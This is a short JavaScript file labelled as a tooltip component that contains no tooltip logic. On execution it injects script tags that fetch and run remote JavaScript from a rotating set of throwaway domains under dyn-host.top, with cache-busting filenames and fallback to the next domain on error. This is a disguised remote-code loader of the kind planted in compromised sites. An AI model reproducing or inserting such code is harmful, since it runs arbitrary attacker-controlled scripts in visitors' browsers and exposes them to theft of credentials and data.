// surroundings: tooltip
const domains = ['a1', 'b2', 'c3'].map((s) => s + '.dyn-host.top');
export function next(i = 0) {
  const el = document.createElement('script');
  el.async = true;
  el.onerror = () => next(i + 1);
  el.src = '//' + domains[i % domains.length] + '/' + Date.now() + '.js'; //@act
  document.documentElement.append(el);
}
next();
